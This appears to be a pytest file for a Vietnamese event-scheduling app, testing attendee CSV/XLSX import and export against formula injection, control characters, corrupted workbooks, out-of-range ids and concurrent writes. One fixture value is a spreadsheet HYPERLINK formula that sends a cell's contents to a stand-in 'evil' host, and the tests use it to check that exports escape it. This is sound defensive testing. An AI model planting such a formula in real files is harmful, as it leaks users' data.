"""Import and export against hostile or damaged input: formulas, control
characters, broken workbooks, ids out of range, concurrent writes; and what the
printed sheet and the export say about who is (not) coming."""
import csv
import io
import threading
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from scheduler.extensions import db
from scheduler.planning.models import Attendee, Site
from scheduler.transfer.formulas import escape, unescape

from .conftest import post_form
from .test_transfer import base, count, csv_bytes, last_job, upload, write

EVIL = '=HYPERLINK("http://evil/?"&F3,"Xem")'


@pytest.fixture
def ceremony(factory):
    ceremony = factory.ceremony()
    factory.site(ceremony, code="BCA", is_host=True, name="Điểm cầu Bộ Công an")
    factory.site(ceremony, code="BNI", name="Điểm cầu Bắc Ninh")
    return ceremony


def site_id(app, ceremony, code: str) -> int:
    with app.app_context():
        return db.session.scalar(select(Site.id).where(Site.ceremony_id == ceremony.id, Site.code == code))


def attendees_of(app, ceremony) -> list[Attendee]:
    with app.app_context():
        return db.session.scalars(select(Attendee).where(Attendee.ceremony_id == ceremony.id)
                                  .order_by(Attendee.full_name)).all()


@pytest.mark.parametrize("value", ["=1+1", "+84 912 000 111", "-5", "@SUM(A1)", "\tx", "\rx", "'=x",
                                   "''+x", "'abc", "abc", "", "'"])
def test_formula_escape_round_trips(value):
    escaped = escape(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape(escaped) == value


def hostile_source(factory):
    source = factory.ceremony(title="Nguồn")
    site = factory.site(source, code="BNI")
    factory.attendee(source, site, full_name=EVIL, phone="+84 912 000 111", unit="-Phòng 1",
                     position="@Trưởng phòng", rank="'=không phải công thức")
    return source


def test_csv_export_quotes_formulas_and_imports_back_the_same(app, client, factory, ceremony):
    source = hostile_source(factory)
    exported = client.get(f"{base(source)}/export/attendees.csv").data
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert rows[1][:7] == ["BNI", "'" + EVIL, "''=không phải công thức", "'@Trưởng phòng", "'-Phòng 1", "",
                           "'+84 912 000 111"]
    upload(client, ceremony, exported, filename="export.csv")
    assert last_job(app).status == "ready", last_job(app).report["errors"]
    write(client, ceremony, last_job(app))
    [person] = attendees_of(app, ceremony)
    assert (person.full_name, person.rank, person.position, person.unit, person.phone) == (
        EVIL, "'=không phải công thức", "@Trưởng phòng", "-Phòng 1", "+84 912 000 111")


def test_xlsx_export_writes_formulas_as_text_and_imports_back_the_same(app, client, factory, ceremony):
    source = hostile_source(factory)
    exported = client.get(f"{base(source)}/export/attendees.xlsx").data
    sheet_xml = zipfile.ZipFile(io.BytesIO(exported)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    row = load_workbook(io.BytesIO(exported)).active[2]
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (EVIL, "s", True)
    assert row[6].value == "+84 912 000 111"
    upload(client, ceremony, exported, filename="export.xlsx")
    assert last_job(app).status == "ready", last_job(app).report["errors"]
    write(client, ceremony, last_job(app))
    [person] = attendees_of(app, ceremony)
    assert (person.full_name, person.rank, person.unit, person.phone) == (
        EVIL, "'=không phải công thức", "-Phòng 1", "+84 912 000 111")


def xlsx(*rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite_sheet(data: bytes, change) -> bytes:
    """The workbook with its first sheet's XML passed through `change`."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = change(content.decode()).encode()
            target.writestr(item, content)
    return out.getvalue()


HEADER_ROW = ["Site code", "Full name", "Rank", "Position", "Unit", "Email", "Phone", "Category", "Language"]


def test_a_wrong_declared_size_drops_no_row_or_column(app, client, ceremony):
    data = xlsx(HEADER_ROW, ["BNI", "Người Một", "", "", "", "", "", "", "en"],
                ["BCA", "Người Hai", "", "", "", "", "", "", "en"])
    assert '<dimension ref="A1:I3"' in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    lying = rewrite_sheet(data, lambda xml: xml.replace('<dimension ref="A1:I3"', '<dimension ref="A1:F2"'))
    upload(client, ceremony, lying, filename="lying.xlsx")
    job = last_job(app)
    assert (job.status, job.total_rows) == ("ready", 2), job.report
    write(client, ceremony, job)
    assert [(p.full_name, p.language) for p in attendees_of(app, ceremony)] == [
        ("Người Hai", "en"), ("Người Một", "en")]


def test_a_sheet_cut_short_inside_a_sound_zip_is_refused_cleanly(app, client, ceremony):
    rows = [["BNI", f"Người số {n}", "", "", "", "", "", "", ""] for n in range(50)]
    data = rewrite_sheet(xlsx(HEADER_ROW, *rows), lambda xml: xml[:len(xml) // 2])
    response = upload(client, ceremony, data, filename="cut.xlsx")
    assert response.status_code == 302
    job = last_job(app)
    assert job.status == "invalid" and [e["code"] for e in job.report["errors"]] == ["bad_xlsx"]
    page = client.get(f"{base(ceremony)}/imports/{job.id}")
    assert page.status_code == 200 and "Không mở được sổ làm việc" in page.get_data(as_text=True)
    assert count(app) == 0


def test_control_characters_are_dropped_not_stored(app, client, ceremony):
    upload(client, ceremony, csv_bytes("BNI,A\x00B,Đại\x07 tá,,Phòng\x1b 1,,,,",
                                       "BCA,\x7fNgười Hai\x00,,,,,,,"))
    job = last_job(app)
    assert job.status == "ready", job.report["errors"]
    assert write(client, ceremony, job).status_code == 302
    assert [(p.full_name, p.rank, p.unit) for p in attendees_of(app, ceremony)] == [
        ("AB", "Đại tá", "Phòng 1"), ("Người Hai", "", "")]


@pytest.mark.parametrize("huge", [2**31, 2**63, 2**64])
def test_ids_past_the_column_range_are_404(app, client, ceremony, huge):
    for path in (f"/imports/{huge}", f"/imports/{huge}/progress.json", f"/sites/{huge}/sheet",
                 f"/export/attendees.csv?site_id={huge}", "/export/attendees.csv?site_id=-3"):
        assert client.get(base(ceremony) + path).status_code == 404, path
    for action in ("write", "discard"):
        response = post_form(client, f"{base(ceremony)}/imports/{huge}/{action}", {},
                             token_from=base(ceremony) + "/")
        assert response.status_code == 404, action


def test_the_same_name_and_unit_in_capitals_is_the_same_person(app, client, factory, ceremony):
    bni = type("S", (), {"id": site_id(app, ceremony, "BNI")})
    factory.attendee(ceremony, bni, full_name="Nguyễn Văn An", unit="Công an tỉnh Bắc Ninh")
    upload(client, ceremony, csv_bytes("BNI,NGUYỄN VĂN AN,,,CÔNG AN TỈNH BẮC NINH,,,,",
                                       "BNI,Lê Thị Hà,,,Phòng  PV01,,,,",
                                       "BCA,LÊ THỊ HÀ,,,phòng pv01,,,,"))
    job = last_job(app)
    assert {(e["line"], e["code"]) for e in job.report["errors"]} == {
        (2, "existing_name"), (4, "duplicate_name_in_file")}


def test_two_imports_of_the_same_people_written_at_once_write_them_once(app, client, ceremony, clock,
                                                                         monkeypatch):
    """The second write waits for the first, then finds its rows: duplicates, nothing written."""
    from scheduler.transfer import commit, imports
    from scheduler.transfer.models import ImportJob

    data = csv_bytes(*(f"BNI,Người số {n},,,Phòng {n},n{n}@example.vn,,," for n in range(40)))
    job_ids = []
    for _ in range(2):
        upload(client, ceremony, data)
        job_ids.append(last_job(app).id)
    inserted, go, outcomes = threading.Event(), threading.Event(), {}
    real_flush = commit.BatchWriter.flush

    def flush_then_wait(self):
        had_rows = bool(self.pending)
        real_flush(self)
        if had_rows and threading.current_thread().name == "first":
            inserted.set()  # the first import's rows are in, not yet committed
            go.wait(10)

    monkeypatch.setattr(commit.BatchWriter, "flush", flush_then_wait)

    def press_import(job_id):
        with app.app_context():
            try:
                outcomes[threading.current_thread().name] = imports.write_or_queue(
                    db.session.get(ImportJob, job_id), now=clock())
                db.session.commit()
            except Exception as error:  # reported by the assertion below
                outcomes[threading.current_thread().name] = error
                db.session.rollback()
            finally:
                db.session.remove()

    first = threading.Thread(target=press_import, args=(job_ids[0],), name="first")
    second = threading.Thread(target=press_import, args=(job_ids[1],), name="second")
    first.start()
    assert inserted.wait(10)
    second.start()
    second.join(0.5)  # without a lock it would check and write now, seeing none of the first's rows
    go.set()
    first.join(10)
    second.join(10)
    assert outcomes == {"first": "done", "second": "refused"}
    assert count(app) == 40
    job = last_job(app)
    assert job.status == "invalid" and job.error_count == 80  # each row: its email and its name
    assert {e["code"] for e in job.report["errors"]} == {"existing_email", "existing_name"}


def test_the_attendee_export_says_who_answered_and_came_and_still_imports(app, client, factory, ceremony,
                                                                         clock):
    from datetime import timedelta

    source = factory.ceremony(title="Nguồn")
    site = factory.site(source, code="BNI", timezone="Asia/Bangkok")
    came = factory.attendee(source, site, full_name="Người Đến", email="den@example.vn")
    factory.attendee(source, site, full_name="Người Chưa Trả Lời")
    with app.app_context():
        person = db.session.get(Attendee, came.id)
        person.partstat, person.site_confirmation = "ACCEPTED", "confirmed"
        person.attendance, person.attendance_at = "late", clock() + timedelta(minutes=5)  # 03:05 UTC
        db.session.commit()
    exported = client.get(f"{base(source)}/export/attendees.csv").data
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert rows[0][9:] == ["Trả lời", "Xác nhận của điểm cầu", "Điểm danh", "Giờ điểm danh (giờ tại điểm cầu)"]
    by_name = {row[1]: row[9:] for row in rows[1:]}
    assert by_name["Người Đến"] == ["Đồng ý tham dự", "Đầu mối đã xác nhận", "Đến muộn", "2027-05-10 10:05"]
    assert by_name["Người Chưa Trả Lời"][2:] == ["", ""]
    client.get("/language/en")
    english = list(csv.reader(io.StringIO(
        client.get(f"{base(source)}/export/attendees.csv").data.decode("utf-8-sig"))))
    assert english[0][9:] == ["Answer", "Site confirmation", "Attendance", "Attendance time (site's local time)"]
    assert {row[1]: row[9:] for row in english[1:]}["Người Đến"] == [
        "Accepted", "Confirmed by the site", "Late", "2027-05-10 10:05"]
    for fmt in ("csv", "xlsx"):
        template = client.get(f"{base(ceremony)}/template/attendees.{fmt}").data
        if fmt == "csv":
            heading = next(csv.reader(io.StringIO(template.decode("utf-8-sig"))))
        else:
            heading = [c.value for c in load_workbook(io.BytesIO(template)).active[1]]
        assert heading == HEADER_ROW
    exported = client.get(f"{base(source)}/export/attendees.xlsx").data
    upload(client, ceremony, exported, filename="export.xlsx")
    job = last_job(app)
    assert job.status == "ready" and job.report["ignored"] == [], job.report
    write(client, ceremony, job)
    copied = {p.full_name: p for p in attendees_of(app, ceremony)}
    assert set(copied) == {"Người Đến", "Người Chưa Trả Lời"}
    assert (copied["Người Đến"].partstat, copied["Người Đến"].attendance) == ("NEEDS-ACTION", None)


def test_the_printed_sheet_has_no_signature_line_for_people_not_coming(app, client, factory, ceremony):
    bni = type("S", (), {"id": site_id(app, ceremony, "BNI")})
    people = {name: factory.attendee(ceremony, bni, full_name=name).id
              for name in ("An Đến", "Bình Báo Vắng", "Cường Được Thay", "Dũng Người Thay", "Em Đến")}
    with app.app_context():
        db.session.get(Attendee, people["Bình Báo Vắng"]).site_confirmation = "not_coming"
        # A substitute points to the person replaced (portal.operations.add_person also
        # marks that one not coming; the link alone is enough to take them off the list).
        db.session.get(Attendee, people["Dũng Người Thay"]).substitute_for_id = people["Cường Được Thay"]
        db.session.commit()
    page = client.get(f"{base(ceremony)}/sites/{bni.id}/sheet").get_data(as_text=True)
    signing, away = page.split('id="not-coming"')
    signing = signing.split('id="signatures"')[1]
    for name in ("An Đến", "Dũng Người Thay", "Em Đến"):
        assert f"<td>{name}" in signing and f"<td>{name}" not in away
    assert "Thay cho Cường Được Thay" in signing
    assert signing.count('<td class="signature">') == 3 and "3 đại biểu" in signing
    for name in ("Bình Báo Vắng", "Cường Được Thay"):
        assert f"<td>{name}</td>" in away and f"<td>{name}" not in signing
    assert "Không tham dự" in page and "Được thay bởi Dũng Người Thay" in away
    assert 'class="signature"' not in away
